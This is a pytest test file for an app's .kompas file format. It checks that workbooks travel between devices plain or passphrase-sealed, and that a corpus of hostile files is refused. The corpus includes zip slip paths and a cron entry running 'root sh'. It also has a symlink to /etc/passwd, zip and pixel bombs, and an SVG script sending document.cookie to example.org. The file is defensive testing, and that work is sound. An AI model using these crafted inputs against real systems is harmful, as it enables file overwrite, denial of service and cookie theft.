"""The .kompas file: a kompas goes to another device whole, sealed or not, and a file that is broken or made to
harm is refused with its own words, leaving the shelf it came to exactly as it was."""

from __future__ import annotations

import copy
import hashlib
import io
import json
import os
import random
import shutil
import stat
import struct
import subprocess
import sys
import warnings
import zipfile
import zlib
from dataclasses import dataclass
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Callable

import pytest
from photofiles import SECRET, animated_gif, bomb_png, encoded, phone_exif, phone_photo, picture, zip_in_scan_data
from PIL import Image, ImageChops, ImageStat

from kompas import i18n
from kompas.cli import main
from kompas.domain.model import MAX_NOTES_PER_STEP, MAX_TEXT, Condition, Mood, Paper, Photo, PosterChoice, PosterItem, Step
from kompas.media.photos import PHOTO_FOLDER
from kompas.poster.render import poster_images, render_poster
from kompas.store import kompasfile, pin
from kompas.store import sealed as sealing
from kompas.store.kompasfile import FileProblem, pack
from kompas.store.lock import FolderInUse
from kompas.store.pin import PinLock, PinOutcome
from kompas.store.shelf import SHELF_FOLDER, UNMOVED, Arrival, Card, Shelf, card_fields
from kompas.store.storage import DB_FILE, SCHEMA_VERSION
from kompas.ui.filewords import file_problem_message
from kompas.workbook.demo import fill_demo
from kompas.workbook.session import Library
from kompas.workbook.workbook import Outcome, Workbook

ROOT = Path(__file__).resolve().parent.parent
TODAY = date(2026, 11, 21)
PASSPHRASE = "Fietsen langs de Vecht in de regen"
# The real cost, kept before the fixture below lowers it for every other test.
OWASP_SCRYPT = dict(sealing._SCRYPT)
CHEAP_SCRYPT = {"n": 2**10, "r": 8, "p": 1}
MANIFEST = "manifest.json"
# What a sealed file starts with (docs/kompas-file.md): the magic, then the clear header's length in 4 bytes.
MAGIC = b"KOMPAS-SEALED\n"


@pytest.fixture(autouse=True)
def cheap_keys(monkeypatch):
    """scrypt at 1 MiB instead of 128: a sealed file says its cost in its header, so it still opens. One test below
    seals and opens at the real cost."""
    monkeypatch.setattr(sealing, "_SCRYPT", CHEAP_SCRYPT)
    monkeypatch.setattr(pin, "COST", pin.Cost(n=2**4, r=8, p=1))


def tree(folder: Path) -> dict[str, bytes | None]:
    """Every file and folder under `folder`, hidden ones too: a file by its bytes, a folder as None."""
    found: dict[str, bytes | None] = {}
    for root, folders, files in os.walk(folder):
        here = Path(root)
        for name in folders:
            found[(here / name).relative_to(folder).as_posix() + "/"] = None
        for name in files:
            found[(here / name).relative_to(folder).as_posix()] = (here / name).read_bytes()
    return found


def copied(template: Path, to: Path) -> Path:
    shutil.copytree(template, to)
    return to


def noisy_phone_photo() -> bytes:
    """A 12 MP phone photo of 10 MB: noise that no encoder can squeeze, turned by EXIF, with a place in it."""
    noise = Image.effect_noise((4000, 3000), 64)
    image = Image.merge("RGB", (noise, noise.transpose(Image.Transpose.FLIP_LEFT_RIGHT),
                                noise.transpose(Image.Transpose.FLIP_TOP_BOTTOM)))
    return encoded(image, "JPEG", quality=92, exif=phone_exif(orientation=6))


def kompas_of(shelf: Shelf, card_id: str):
    with shelf.open_store(card_id) as store:
        return store.load()


def kompas_folders(data: Path) -> list[Path]:
    return sorted(p for p in (data / SHELF_FOLDER).iterdir() if p.is_dir())


# A demo kompas with everything a client fills in over a few weeks, on a shelf of its own


@dataclass(frozen=True)
class Source:
    data: Path
    card: Card


@pytest.fixture(scope="module")
def demo_template(tmp_path_factory) -> Source:
    data = tmp_path_factory.mktemp("demo") / "data"
    with Shelf.open(data) as shelf:
        card = shelf.create("Amal", "paars")
        # A card unlike the defaults, so that each field is seen to travel.
        card = shelf.change(card.id, language="ar", discreet=True, lock_minutes=15)
        with shelf.open_store(card.id) as store:
            workbook = Workbook(store)
            assert fill_demo(workbook, TODAY) is Outcome.SAVED
            outcome, street = workbook.add_photo(noisy_phone_photo(), "kompas")
            assert outcome is Outcome.SAVED
            outcome, form = workbook.add_photo(phone_photo(1200, 900, orientation=1), "checkin")
            assert outcome is Outcome.SAVED
            assert workbook.set_caption(street.id, "Onze straat, ons huis") is Outcome.SAVED
            for photo in (street, form):
                assert workbook.set_on_poster(photo.id, True) is Outcome.SAVED
            assert workbook.check_in(Mood.GOED, TODAY + timedelta(days=2), "Formulier opgehaald",
                                     photo=form.id) is Outcome.SAVED
            assert workbook.mark_done() is Outcome.SAVED
            assert workbook.look_back("Ik heb het zelf gedaan", "Vragen helpt", "Anouk",
                                      TODAY + timedelta(days=14)) is Outcome.SAVED
            assert workbook.choose_action("De sportclub bellen", Condition.ERBIJ_HOREN, TODAY + timedelta(days=28),
                                          TODAY + timedelta(days=14), helper="Fatma") is Outcome.SAVED
            assert workbook.check_in(Mood.GAAT_WEL, TODAY + timedelta(days=16), "Nog niet gebeld") is Outcome.SAVED
            assert workbook.set_poster(PosterChoice(
                items=frozenset({PosterItem.STARRED, PosterItem.KRACHTEN, PosterItem.WISH, PosterItem.ACTION}),
                name="Amal", paper=Paper.A4, dutch_labels=True)) is Outcome.SAVED
    return Source(data, card)


@pytest.fixture
def demo(demo_template, tmp_path) -> Source:
    return Source(copied(demo_template.data, tmp_path / "from"), demo_template.card)


def nearly_the_same(a: Path | bytes, b: Path | bytes) -> bool:
    """The same size, and on average within three levels of 255 in every channel (about 1%): one more JPEG encoding
    at quality 88 changes no more than that, even in the test's busy pictures."""
    a, b = (io.BytesIO(x) if isinstance(x, bytes) else x for x in (a, b))
    with Image.open(a) as first, Image.open(b) as second:
        return first.size == second.size and all(
            mean < 3 for mean in ImageStat.Stat(ImageChops.difference(first.convert("RGB"), second.convert("RGB"))).mean)


def poster_pixels(kompas, folder: Path) -> tuple[tuple[int, int], bytes]:
    """The poster as drawn for this kompas and the photo files in its folder; 60 dpi shows every photo and line."""
    photos = poster_images(kompas, folder)
    assert len(photos) == 2, "both photos are on the poster, or the comparison would say little"
    poster = render_poster(kompas, kompas.poster, TODAY, photos, dpi=60)
    return poster.image.size, poster.image.tobytes()


@pytest.mark.parametrize("passphrase", [None, PASSPHRASE], ids=["plain", "sealed"])
def test_a_kompas_arrives_on_an_empty_device_field_by_field_with_its_photos(demo, tmp_path, passphrase):
    library = Library(Shelf.open(demo.data))
    try:
        raw = library.pack(demo.card.id, passphrase)
        original = library.workbook(demo.card.id).kompas
    finally:
        library.close()
    assert sealing.is_sealed(raw) is (passphrase is not None)
    there = Library(Shelf.open(tmp_path / "other"))
    try:
        arrival = there.receive(raw, passphrase)
        assert isinstance(arrival, Arrival) and arrival.same is None
        card = there.take_in(arrival)
        arrived = kompas_of(there._shelf, card.id)
        folder = there.folder(card.id)
    finally:
        there.close()
    # Each part on its own first, so that a failure says which part was lost.
    assert arrived.notes == original.notes and len(arrived.notes) == 14
    assert arrived.wish == original.wish and arrived.action == original.action
    assert arrived.checkins == original.checkins and arrived.done == original.done
    assert arrived.periods == original.periods and len(arrived.periods) == 1
    assert arrived.photos == original.photos and len(arrived.photos) == 2
    assert arrived.poster == original.poster
    assert arrived == original
    # The card: the same kompas (same id), called and shown as on the other device.
    assert card == demo.card
    assert (card.nickname, card.look, card.language, card.discreet, card.lock_minutes) == ("Amal", "paars", "ar",
                                                                                          True, 15)
    source_folder = demo.data / SHELF_FOLDER / demo.card.id
    for photo in original.photos:
        # Encoded anew, as every photo that comes in is: the same picture, to the eye.
        assert nearly_the_same(folder / photo.file, source_folder / photo.file)
        with Image.open(folder / photo.thumb) as thumb:
            assert max(thumb.size) == 320
        assert SECRET.encode() not in (folder / photo.file).read_bytes()
    (size, arrived_pixels), (original_size, original_pixels) = (poster_pixels(arrived, folder),
                                                                poster_pixels(original, source_folder))
    assert size == original_size
    assert ImageStat.Stat(ImageChops.difference(Image.frombytes("RGB", size, arrived_pixels),
                                                Image.frombytes("RGB", size, original_pixels))).mean < [1, 1, 1]
    with Shelf.open(tmp_path / "other") as shelf:  # and after a restart
        assert shelf.cards() == [card]
        assert [p.name for p in kompas_folders(tmp_path / "other")] == [card.id]


def test_a_sealed_file_opens_at_the_real_cost_with_the_passphrase_typed_on_another_keyboard(demo, tmp_path,
                                                                                            monkeypatch):
    monkeypatch.setattr(sealing, "_SCRYPT", OWASP_SCRYPT)
    with Shelf.open(demo.data) as shelf, shelf.open_store(demo.card.id) as store:
        raw = pack(store.snapshot(), store.folder, card_fields(demo.card), "Één zin met accenten: café")
        original = store.load()
    header, _body = sealed_parts(raw)
    assert (header["n"], header["r"], header["p"]) == (2**17, 8, 1)
    with Shelf.open(tmp_path / "other") as shelf:
        # The same words with the accents as separate characters, as some phone keyboards send them.
        arrival = shelf.receive(raw, "E\u0301e\u0301n zin met accenten: cafe\u0301")
        assert isinstance(arrival, Arrival)
        assert kompas_of(shelf, shelf.take_in(arrival).id) == original


@pytest.fixture(scope="module")
def sealed_demo(demo_template) -> bytes:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sealing, "_SCRYPT", CHEAP_SCRYPT)
        with Shelf.open(demo_template.data) as shelf, shelf.open_store(demo_template.card.id) as store:
            return pack(store.snapshot(), store.folder, card_fields(demo_template.card), PASSPHRASE)


def test_a_sealed_file_shows_nothing_of_the_kompas_in_it(demo_template, sealed_demo):
    with Shelf.open(demo_template.data) as shelf:
        kompas = kompas_of(shelf, demo_template.card.id)
    plain_words = [demo_template.card.nickname, demo_template.card.id, kompas.wish, kompas.action.text,
                   *(note.text for note in kompas.notes), *(photo.id for photo in kompas.photos),
                   *(photo.caption for photo in kompas.photos if photo.caption), "photos/", DB_FILE, MANIFEST,
                   "kompas", "Amal", "JFIF"]
    for words in plain_words:
        assert words.encode("utf-8") not in sealed_demo, words
        assert words.encode("utf-16-le") not in sealed_demo, words
    # Unsealed, the file holds every one of them: the test looks for the right things.
    with Shelf.open(demo_template.data) as shelf, shelf.open_store(demo_template.card.id) as store:
        plain = pack(store.snapshot(), store.folder, card_fields(demo_template.card))
    with zipfile.ZipFile(io.BytesIO(plain)) as archive:
        inside = b"".join(name.encode() + archive.read(name) for name in archive.namelist())
    assert all(words.encode() in inside for words in plain_words)


def test_a_sealed_file_asks_for_its_passphrase_and_tells_a_wrong_one(tmp_path, sealed_demo):
    with Shelf.open(tmp_path / "other") as shelf:
        assert shelf.receive(sealed_demo) is FileProblem.NEEDS_PASSPHRASE
        assert shelf.receive(sealed_demo, "") is FileProblem.NEEDS_PASSPHRASE
        assert shelf.receive(sealed_demo, PASSPHRASE.lower()) is FileProblem.WRONG_PASSPHRASE
        assert shelf.receive(sealed_demo, PASSPHRASE + " ") is FileProblem.WRONG_PASSPHRASE
        assert shelf.cards() == []
        arrival = shelf.receive(sealed_demo, PASSPHRASE)
        assert isinstance(arrival, Arrival)
        shelf.discard(arrival)
    assert tree(tmp_path / "other" / SHELF_FOLDER) == {}


def test_a_photo_in_a_file_is_cleaned_again_on_the_way_in(small, tmp_path):
    # A file made by hand (or by a changed app) with a photo that still carries the place it was taken.
    with_place = encoded(picture(), "JPEG", exif=phone_exif(orientation=6), comment=SECRET)
    raw = small.signed([(DB_FILE, small.data), (small.photo_name, with_place)])
    with Shelf.open(tmp_path / "other") as shelf:
        arrival = shelf.receive(raw)
        assert isinstance(arrival, Arrival)
        card = shelf.take_in(arrival)
        stored = (shelf.folder(card.id) / small.photo_name).read_bytes()
    assert SECRET.encode() not in stored and b"Exif" not in stored and b"PhoneMaker" not in stored
    with Image.open(io.BytesIO(stored)) as image:
        assert image.size == (480, 640)  # turned upright, as the client saw it


# The hostile and broken corpus

MADE = datetime(2026, 11, 21, 10, 0)


@dataclass(frozen=True)
class Small:
    """A small good .kompas file, its parts, and the data folder it was made from."""

    folder: Path
    card: Card
    raw: bytes
    sealed: bytes  # the same, sealed with PASSPHRASE in chunks of 1 kB: a few chunks to swap or cut off
    manifest: dict
    data: bytes  # kompas.json
    photo_id: str
    photo: bytes

    @property
    def photo_name(self) -> str:
        return f"{PHOTO_FOLDER}/{self.photo_id}.jpg"

    def tables(self) -> dict:
        return json.loads(self.data)

    def files(self) -> list[tuple[str | zipfile.ZipInfo, bytes]]:
        return [(DB_FILE, self.data), (self.photo_name, self.photo)]

    def signed(self, files: list[tuple[str | zipfile.ZipInfo, bytes]], manifest: dict | None = None,
               sums: dict | None = None) -> bytes:
        """A zip of the manifest and these files; the manifest lists each with its right sha256 unless told."""
        doc = copy.deepcopy(self.manifest if manifest is None else manifest)
        doc["files"] = sums if sums is not None else {_name(n): hashlib.sha256(c).hexdigest() for n, c in files}
        return zipped([(MANIFEST, json.dumps(doc).encode()), *files])

    def with_tables(self, change: Callable[[dict], None]) -> bytes:
        """The file with its kompas.json changed, and signed again: only the check on the data can refuse it."""
        tables = self.tables()
        change(tables)
        return self.signed([(DB_FILE, json.dumps(tables).encode()), (self.photo_name, self.photo)])

    def with_manifest(self, change: Callable[[dict], None]) -> bytes:
        manifest = copy.deepcopy(self.manifest)
        change(manifest)
        return self.signed(self.files(), manifest)


def note_and_photo(workbook: Workbook, condition: Condition, text: str, colour=(90, 140, 200)) -> Photo:
    """A kompas with one note at Krachten and one photo: the smallest that holds every kind of file."""
    assert workbook.add_note(condition, Step.KRACHTEN, text) is Outcome.SAVED
    outcome, photo = workbook.add_photo(encoded(picture(colour), "JPEG"), "kompas")
    assert outcome is Outcome.SAVED
    return photo


@pytest.fixture(scope="module")
def small(tmp_path_factory) -> Small:
    folder = tmp_path_factory.mktemp("small") / "data"
    with Shelf.open(folder) as shelf:
        card = shelf.create("Noor", "groen")
        with shelf.open_store(card.id) as store:
            photo = note_and_photo(Workbook(store), Condition.MEEDOEN, "Ik kan goed koken")
            raw = pack(store.snapshot(), store.folder, card_fields(card), made=MADE)
            with pytest.MonkeyPatch.context() as patch:
                patch.setattr(sealing, "_SCRYPT", CHEAP_SCRYPT)
                patch.setattr(sealing, "_CHUNK", 1024)
                sealed = pack(store.snapshot(), store.folder, card_fields(card), PASSPHRASE, made=MADE)
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        return Small(folder, card, raw, sealed, json.loads(archive.read(MANIFEST)), archive.read(DB_FILE), photo.id,
                     archive.read(f"{PHOTO_FOLDER}/{photo.id}.jpg"))


@pytest.fixture(scope="module")
def home_template(tmp_path_factory) -> Path:
    """A device that holds one kompas of its own, with a note and a photo: what a refused file must not touch."""
    data = tmp_path_factory.mktemp("home") / "data"
    with Shelf.open(data) as shelf:
        card = shelf.create("Thuis", "blauw")
        with shelf.open_store(card.id) as store:
            note_and_photo(Workbook(store), Condition.ERBIJ_HOREN, "Mijn buurvrouw Fatma", (40, 160, 60))
    return data


@pytest.fixture
def home(home_template, tmp_path) -> Path:
    return copied(home_template, tmp_path / "home")


def _name(name: str | zipfile.ZipInfo) -> str:
    return name.filename if isinstance(name, zipfile.ZipInfo) else name


def entry(name: str, kind: int = stat.S_IFREG, method: int = zipfile.ZIP_DEFLATED) -> zipfile.ZipInfo:
    """A zip entry as pack() writes one, or one of another kind."""
    info = zipfile.ZipInfo(name, date_time=(2026, 11, 21, 10, 0, 0))
    info.compress_type = method
    info.external_attr = (kind | (0o777 if kind == stat.S_IFLNK else 0o600)) << 16
    if kind == stat.S_IFDIR:
        info.external_attr |= 0x10  # and MS-DOS's folder bit, as zip tools write it
    return info


def windows_folder(name: str) -> zipfile.ZipInfo:
    """A folder entry as a Windows zip tool writes it: no Unix mode at all, only MS-DOS's folder bit."""
    info = zipfile.ZipInfo(name, date_time=(2026, 11, 21, 10, 0, 0))
    info.create_system = 0
    info.external_attr = 0x10
    return info


def zipped(files: list[tuple[str | zipfile.ZipInfo, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of a duplicate name: here that is the point
        with zipfile.ZipFile(buffer, "w") as archive:
            for name, content in files:
                archive.writestr(name if isinstance(name, zipfile.ZipInfo) else entry(name), content)
    return buffer.getvalue()


def patched(raw: bytes, name: str, *, flags: int | None = None, method: int | None = None, crc: int | None = None,
            size: int | None = None, local_name: str | None = None) -> bytes:
    """The zip with one entry's header fields changed, in its local header and in the central directory alike
    (or, with `local_name`, its name in the local header only)."""
    data = bytearray(raw)
    end = data.rindex(b"PK\x05\x06")
    count, _size, at = struct.unpack_from("<HII", data, end + 10)
    for _ in range(count):
        name_length, extra_length, comment_length = struct.unpack_from("<HHH", data, at + 28)
        local = struct.unpack_from("<I", data, at + 42)[0]
        if data[at + 46:at + 46 + name_length].decode() == name:
            # Central directory offsets; the local header has each field two bytes earlier.
            for value, fmt, offset in ((flags, "<H", 8), (method, "<H", 10), (crc, "<I", 16), (size, "<I", 24)):
                if value is not None:
                    struct.pack_into(fmt, data, at + offset, value)
                    struct.pack_into(fmt, data, local + offset - 2, value)
            if local_name is not None:
                assert len(local_name.encode()) == name_length
                data[local + 30:local + 30 + name_length] = local_name.encode()
            return bytes(data)
        at += 46 + name_length + extra_length + comment_length
    raise AssertionError(f"{name} is not in the zip")


def zip_bomb(small: Small, claimed: int | None = None) -> bytes:
    """kompas.json as 1 GiB of zeros deflated into 1 MB: 1024 copies of one flushed deflate block of 1 MiB, a real
    stream (zipfile reads it whole, CRC and all, in 3 s) made in a blink. `claimed`: the size the headers own up to,
    when they lie about it."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = squeeze.compress(bytes(2**20)) + squeeze.flush(zlib.Z_FULL_FLUSH)
    stream = block * 1024 + squeeze.flush()
    assert zlib.decompressobj(-15).decompress(stream, 2**20) == bytes(2**20)
    size = claimed or 2**30
    crc = 0
    for _ in range(size // 2**20):
        crc = zlib.crc32(bytes(2**20), crc)
    crc = zlib.crc32(bytes(size % 2**20), crc)
    # The one that lies is signed as the zeros it owns up to, so only what is in them can refuse it. The honest one
    # must be refused on its headers, before 1 GiB is ever hashed: its checksum is never looked at.
    sums = {DB_FILE: hashlib.sha256(bytes(size)).hexdigest() if claimed else "0" * 64,
            small.photo_name: hashlib.sha256(small.photo).hexdigest()}
    raw = small.signed([(entry(DB_FILE, method=zipfile.ZIP_STORED), stream), (small.photo_name, small.photo)],
                       sums=sums)
    return patched(raw, DB_FILE, method=zipfile.ZIP_DEFLATED, crc=crc, size=size)


def crowded(count: int) -> bytes:
    """A zip of `count` empty entries, written byte by byte (zipfile takes seconds for 100,000), with the zip64 end
    record that more than 65,535 entries need."""
    local, central, offset = [], [], 0
    for n in range(count):
        name = f"{PHOTO_FOLDER}/{n:032x}.jpg".encode()
        header = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0x5000, 0x5B75, 0, 0, 0, len(name), 0) + name
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x0314, 20, 0, 0, 0x5000, 0x5B75, 0, 0, 0,
                                   len(name), 0, 0, 0, 0, (stat.S_IFREG | 0o600) << 16, offset) + name)
        local.append(header)
        offset += len(header)
    directory = b"".join(central)
    end64 = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, len(directory), offset)
    locator = struct.pack("<IIQI", 0x07064B50, 0, offset + len(directory), 1)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, len(directory), offset, 0)
    return b"".join(local) + directory + end64 + locator + end


def oversized_manifest(small: Small) -> bytes:
    """A manifest of 5 MiB, stored as it is (deflated, that much padding would be refused as a bomb first)."""
    doc = {**small.manifest, "padding": "x" * (5 * 2**20)}
    return zipped([(entry(MANIFEST, method=zipfile.ZIP_STORED), json.dumps(doc).encode()), *small.files()])


def sealed_parts(raw: bytes) -> tuple[dict, bytes]:
    size = int.from_bytes(raw[len(MAGIC):len(MAGIC) + 4], "big")
    return json.loads(raw[len(MAGIC) + 4:len(MAGIC) + 4 + size]), raw[len(MAGIC) + 4 + size:]


def resealed(raw: bytes, change: Callable[[dict], None]) -> bytes:
    """The sealed file with its clear header changed (and its length with it)."""
    header, body = sealed_parts(raw)
    change(header)
    text = json.dumps(header).encode()
    return MAGIC + len(text).to_bytes(4, "big") + text + body


def chunks(raw: bytes) -> tuple[bytes, list[bytes]]:
    """The sealed file's header part and its encrypted chunks, each with its tag."""
    header, body = sealed_parts(raw)
    step = header["chunk"] + 16
    return raw[:len(raw) - len(body)], [body[n:n + step] for n in range(0, len(body), step)]


def flipped(raw: bytes, at: int) -> bytes:
    return raw[:at] + bytes([raw[at] ^ 0x01]) + raw[at + 1:]


SVG = b"""<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="640" height="480">
<script>fetch("https://example.org/?" + document.cookie)</script><rect width="640" height="480"/></svg>"""


@dataclass(frozen=True)
class Hostile:
    make: Callable[[Small], bytes]
    problem: FileProblem
    passphrase: str | None = None
    limits: tuple[tuple[str, int], ...] = ()  # limits of kompasfile lowered for this file


def _set(path: str, value) -> Callable[[dict], None]:
    """A change that puts `value` at the dotted path in a JSON document."""
    def change(doc: dict) -> None:
        *parents, last = path.split(".")
        for key in parents:
            doc = doc[key]
        doc[last] = value
    return change


def _plus(s: Small, *extra: tuple[str | zipfile.ZipInfo, bytes]) -> bytes:
    return s.signed([*s.files(), *extra])


def _instead_of_photo(s: Small, name: str | zipfile.ZipInfo, content: bytes | None = None) -> bytes:
    return s.signed([(DB_FILE, s.data), (name, s.photo if content is None else content)])


VOICE_ID = "5" * 32


def _with_voice(s: Small, content: bytes | None) -> bytes:
    """The file with its note spoken: kompas.json names voice/<id>.ogg, which holds `content` (None: not there)."""
    tables = s.tables()
    next(iter(tables["notes"].values()))["voice"] = {"id": VOICE_ID, "seconds": 2.0}
    voice = [] if content is None else [(f"voice/{VOICE_ID}.ogg", content)]
    return s.signed([(DB_FILE, json.dumps(tables).encode()), (s.photo_name, s.photo), *voice])


def ten_minutes_of_opus() -> bytes:
    import numpy as np
    import soundfile

    out = io.BytesIO()
    soundfile.write(out, np.full(16000 * 600, 0.1, dtype=np.float32), 16000, format="OGG", subtype="OPUS",
                    compression_level=1.0)
    return out.getvalue()


def _chunk_list(s: Small, change: Callable[[list[bytes]], list[bytes]]) -> bytes:
    head, parts = chunks(s.sealed)
    assert len(parts) >= 3, "the sealed file must have a few chunks for these cases"
    return head + b"".join(change(parts))


CORPUS: dict[str, Hostile] = {
    # Names that point out of their folder
    "zip slip ../": Hostile(lambda s: _plus(s, ("../x.jpg", s.photo)), FileProblem.UNSAFE_NAME),
    "zip slip inside photos/": Hostile(lambda s: _instead_of_photo(s, f"photos/../../../{s.photo_id}.jpg"),
                                       FileProblem.UNSAFE_NAME),
    "absolute path": Hostile(lambda s: _plus(s, ("/etc/cron.d/x", b"* * * * * root sh")), FileProblem.UNSAFE_NAME),
    "backslash path": Hostile(lambda s: _plus(s, ("..\\..\\x.jpg", s.photo)), FileProblem.UNSAFE_NAME),
    "drive letter": Hostile(lambda s: _plus(s, ("C:x.jpg", s.photo)), FileProblem.UNSAFE_NAME),
    "drive with a root": Hostile(lambda s: _plus(s, ("C:/Windows/x.jpg", s.photo)), FileProblem.UNSAFE_NAME),
    "dot folder": Hostile(lambda s: s.signed([(f"./{DB_FILE}", s.data), (s.photo_name, s.photo)]),
                          FileProblem.UNSAFE_NAME),
    "empty folder name": Hostile(lambda s: _instead_of_photo(s, f"photos//{s.photo_id}.jpg"),
                                 FileProblem.UNSAFE_NAME),
    # A tool that unpacks by the local headers would write this photo outside; here the two names do not agree.
    "local header names another file": Hostile(
        lambda s: patched(s.signed(s.files()), s.photo_name,
                          local_name=("../" * 20)[:len(s.photo_name) - 5] + "x.jpg"),
        FileProblem.DAMAGED),
    # Entries that are not plain files
    "symbolic link as the photo": Hostile(
        lambda s: _instead_of_photo(s, entry(s.photo_name, stat.S_IFLNK), b"../../../../../../etc/passwd"),
        FileProblem.LINK),
    "symbolic link beside": Hostile(lambda s: _plus(s, (entry("photos", stat.S_IFLNK), b"/home")), FileProblem.LINK),
    "folder entry": Hostile(lambda s: _plus(s, (entry("photos/", stat.S_IFDIR), b"")), FileProblem.LINK),
    "folder entry as Windows writes it": Hostile(lambda s: _plus(s, (windows_folder("photos/"), b"")),
                                                 FileProblem.LINK),
    "folder entry without a slash": Hostile(lambda s: _plus(s, (entry("photos", stat.S_IFDIR), b"")),
                                            FileProblem.LINK),
    "named pipe": Hostile(lambda s: _instead_of_photo(s, entry(s.photo_name, stat.S_IFIFO), b""), FileProblem.LINK),
    # Too much
    "zip bomb of 1 GiB": Hostile(lambda s: zip_bomb(s), FileProblem.BOMB),
    # Headers that admit to 64 kB: only that much is ever inflated, and 64 kB of zeros are no kompas.
    "zip bomb that hides its size": Hostile(lambda s: zip_bomb(s, claimed=2**16), FileProblem.BAD_DATA),
    "100,000 entries": Hostile(lambda s: crowded(100_000), FileProblem.TOO_MANY),
    "oversized manifest": Hostile(lambda s: oversized_manifest(s), FileProblem.TOO_LARGE),
    "bigger than the largest file": Hostile(lambda s: s.raw, FileProblem.TOO_LARGE, limits=(("MAX_FILE", 4096),)),
    # Newer than this app
    "newer format": Hostile(lambda s: s.with_manifest(_set("version", 2)), FileProblem.TOO_NEW),
    "newer schema in the manifest": Hostile(lambda s: s.with_manifest(_set("schema", SCHEMA_VERSION + 1)), FileProblem.TOO_NEW),
    "newer schema in kompas.json": Hostile(lambda s: s.with_tables(_set("meta.1.schema", SCHEMA_VERSION + 1)), FileProblem.TOO_NEW),
    # Checksums and the list of files
    "changed after it was made": Hostile(
        lambda s: s.signed([(DB_FILE, s.data.replace(b"goed koken", b"slecht koken")), (s.photo_name, s.photo)],
                           sums=s.manifest["files"]), FileProblem.CHECKSUM),
    "photo changed after it was made": Hostile(
        lambda s: s.signed([(DB_FILE, s.data), (s.photo_name, flipped(s.photo, len(s.photo) // 2))],
                           sums=s.manifest["files"]), FileProblem.CHECKSUM),
    "no checksum for the photo": Hostile(
        lambda s: s.signed(s.files(), sums={DB_FILE: s.manifest["files"][DB_FILE]}), FileProblem.NO_CHECKSUM),
    "checksum that is no sha256": Hostile(
        lambda s: s.signed(s.files(), sums={**s.manifest["files"], DB_FILE: "md5:" + "0" * 32}),
        FileProblem.NO_CHECKSUM),
    "listed file missing": Hostile(lambda s: s.signed([(DB_FILE, s.data)], sums=s.manifest["files"]),
                                   FileProblem.MISSING_FILE),
    "photo of the data missing and unlisted": Hostile(lambda s: s.signed([(DB_FILE, s.data)]),
                                                      FileProblem.MISSING_FILE),
    # Not a kompas file, or not whole
    "empty": Hostile(lambda s: b"", FileProblem.EMPTY),
    "a photo": Hostile(lambda s: encoded(picture(), "PNG"), FileProblem.NOT_KOMPAS),
    "a PDF": Hostile(lambda s: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n",
                     FileProblem.NOT_KOMPAS),
    "a zip of holiday photos": Hostile(lambda s: zipped([("vakantie/strand.jpg", s.photo)]), FileProblem.NOT_KOMPAS),
    "a manifest of another app": Hostile(lambda s: s.with_manifest(_set("format", "kompasje")),
                                         FileProblem.NOT_KOMPAS),
    "cut off zip": Hostile(lambda s: s.raw[:len(s.raw) // 2], FileProblem.DAMAGED),
    "manifest not JSON": Hostile(lambda s: zipped([(MANIFEST, b'{"format": "kompas", "files": {'), *s.files()]),
                                 FileProblem.DAMAGED),
    "kompas id of the shelf's loose kompas": Hostile(lambda s: s.with_manifest(_set("kompas.id", UNMOVED)),
                                                     FileProblem.DAMAGED),
    "kompas id that is a path": Hostile(lambda s: s.with_manifest(_set("kompas.id", "../../../../etc/x")),
                                        FileProblem.DAMAGED),
    # Twins
    "duplicate name": Hostile(lambda s: _plus(s, (DB_FILE, s.data)), FileProblem.DUPLICATE),
    "case twins Photos/photos": Hostile(lambda s: _plus(s, (f"Photos/{s.photo_id}.jpg", s.photo)),
                                        FileProblem.DUPLICATE),
    # What a kompas file does not hold
    "unknown extra file": Hostile(lambda s: _plus(s, ("leesmij.txt", b"Hallo")), FileProblem.UNKNOWN_FILE),
    "photo the data does not name": Hostile(lambda s: _plus(s, (f"{PHOTO_FOLDER}/{'ab' * 16}.jpg", s.photo)),
                                            FileProblem.UNKNOWN_FILE),
    "thumbnail in the file": Hostile(lambda s: _plus(s, (f"{PHOTO_FOLDER}/{s.photo_id}-klein.jpg", s.photo)),
                                     FileProblem.UNKNOWN_FILE),
    "zip-encrypted entry": Hostile(lambda s: patched(s.signed(s.files()), DB_FILE, flags=0x1),
                                   FileProblem.UNKNOWN_FILE),
    "bzip2 entry": Hostile(lambda s: s.signed([(entry(DB_FILE, method=zipfile.ZIP_BZIP2), s.data),
                                              (s.photo_name, s.photo)]), FileProblem.UNKNOWN_FILE),
    # Photos that are not photos
    "SVG with a script as the photo": Hostile(lambda s: _instead_of_photo(s, s.photo_name, SVG),
                                              FileProblem.BAD_PHOTO),
    "cut off JPEG": Hostile(lambda s: _instead_of_photo(s, s.photo_name, s.photo[:len(s.photo) // 2]),
                            FileProblem.BAD_PHOTO),
    "pixel bomb PNG as the photo": Hostile(lambda s: _instead_of_photo(s, s.photo_name, bomb_png()),
                                           FileProblem.BAD_PHOTO),
    "animated GIF as the photo": Hostile(lambda s: _instead_of_photo(s, s.photo_name, animated_gif()),
                                         FileProblem.BAD_PHOTO),
    # Voice notes that are not sound, or not one a note can be
    "a JPEG as a voice note": Hostile(lambda s: _with_voice(s, s.photo), FileProblem.BAD_VOICE),
    "a cut-off Ogg as a voice note": Hostile(lambda s: _with_voice(s, b"OggS\x00\x02" + bytes(300)),
                                            FileProblem.BAD_VOICE),
    "ten minutes as one voice note": Hostile(lambda s: _with_voice(s, ten_minutes_of_opus()), FileProblem.BAD_VOICE),
    "a voice note named and not there": Hostile(lambda s: _with_voice(s, None), FileProblem.MISSING_FILE),
    # The kompas data
    "kompas.json cut off": Hostile(
        lambda s: s.signed([(DB_FILE, s.data[:len(s.data) // 2]), (s.photo_name, s.photo)]), FileProblem.BAD_DATA),
